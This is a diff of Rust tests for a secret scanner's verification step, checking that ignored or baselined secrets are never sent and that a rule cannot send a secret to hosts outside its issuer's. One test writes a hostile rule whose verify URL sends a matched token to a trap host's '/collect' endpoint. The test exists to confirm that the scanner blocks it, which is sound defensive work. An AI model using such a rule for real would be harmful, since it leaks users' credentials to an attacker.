@@ -444,27 +444,7 @@ fn github_app_google_service_account_and_oauth_client_credentials() {
         format!("AZURE_TENANT_ID={tenant}\nAZURE_CLIENT_ID={client}\nAZURE_CLIENT_SECRET={cs_dead}\n"),
     )
     .unwrap();
-    // The generic `private-key.rsa` rule currently wins the overlap with the GitHub App rule
-    // (same confidence, same span); a user rule with its id replaces it for this test.
-    let rules = dir.path().join("rules.toml");
-    std::fs::write(
-        &rules,
-        "[[rule]]\nid = 'private-key.rsa'\nname = 'off'\nissuer = 'private-key'\nidentity = 'unknown'\nkeywords = ['QUENCH-TEST-NEVER']\npattern = 'QUENCH-TEST-NEVER'\n",
-    )
-    .unwrap();
-    let scan_dir = dir.path().join("tree");
-    std::fs::create_dir(&scan_dir).unwrap();
-    for f in [
-        "app.env",
-        "stray.env",
-        "sa.json",
-        "sa-old.json",
-        "azure.env",
-        "azure-old.env",
-    ] {
-        std::fs::rename(dir.path().join(f), scan_dir.join(f)).unwrap();
-    }
-    let r = scan_verify(&sim, &scan_dir, &["--rules", rules.to_str().unwrap(), "."]);
+    let r = scan_verify(&sim, dir.path(), &["."]);
     let findings = r["findings"].as_array().unwrap();
     let by_rule = |rule: &str| -> Vec<&serde_json::Value> {
         findings
@@ -563,4 +543,66 @@ fn keys_revoked_at_the_simulator_verify_dead() {
         2,
         "{rec:#?}"
     );
+}
+
+#[test]
+fn ignored_and_baselined_secrets_are_never_sent() {
+    let mut g = Gen::new(507);
+    let shown = fake::github(&mut g, "ghp");
+    let ignored = fake::github(&mut g, "ghp");
+    let baselined = fake::github(&mut g, "ghp");
+    let keys = format!("[[key]]\nissuer = \"github\"\nsecret = \"{shown}\"\n");
+    let sim = SimProc::start(&keys);
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("t.env"),
+        format!("A={shown}\nB={ignored}\nC={baselined}\n"),
+    )
+    .unwrap();
+    let fp = |s: &str| quench::finding::fingerprint("github.pat-classic", s.as_bytes());
+    std::fs::write(dir.path().join(".quenchignore"), format!("{}\n", fp(&ignored))).unwrap();
+    std::fs::write(
+        dir.path().join("baseline.json"),
+        json!({"version": 1, "created": "2026-01-01T00:00:00Z", "findings": [{"fingerprint": fp(&baselined), "rule_id": "github.pat-classic"}]}).to_string(),
+    )
+    .unwrap();
+    let r = scan_verify(&sim, dir.path(), &["--baseline", "baseline.json", "."]);
+    assert_eq!(r["findings"].as_array().unwrap().len(), 1, "{r:#}");
+    assert_eq!(verification(&r, "github.pat-classic", &shown)["verdict"], "live");
+    let github_calls = sim.recorded().iter().filter(|l| l["issuer"] == "github").count();
+    assert_eq!(github_calls, 1, "only the reported secret may be sent");
+}
+
+#[test]
+fn a_recipe_cannot_send_a_secret_outside_its_issuers_hosts() {
+    let mut g = Gen::new(508);
+    let trap = Trap::start();
+    let sim = SimProc::start("");
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("exfil.toml");
+    std::fs::write(
+        &rules,
+        format!(
+            "[[rule]]\nid = 'acme.token'\nname = 'Acme token'\nissuer = 'github'\nidentity = 'user'\nkeywords = ['acme_']\n\
+             pattern = '''\\b(acme_[a-z0-9]{{24}})\\b'''\n[rule.verify]\nurl = \"http://{}/collect?k={{secret}}\"\n",
+            trap.addr
+        ),
+    )
+    .unwrap();
+    let token = format!("acme_{}", g.hex(24));
+    let tree = dir.path().join("tree");
+    std::fs::create_dir(&tree).unwrap();
+    std::fs::write(tree.join("a.txt"), format!("t = {token}\n")).unwrap();
+    let r = scan_verify(&sim, &tree, &["--rules", rules.to_str().unwrap(), "."]);
+    let v = verification(&r, "acme.token", &token);
+    assert_eq!(v["verdict"], "indeterminate");
+    assert!(
+        v["reason"]
+            .as_str()
+            .unwrap()
+            .contains("not one of the issuer's configured hosts"),
+        "{v:#}"
+    );
+    assert!(!v.to_string().contains(&token));
+    assert_eq!(trap.hits(), 0);
 }
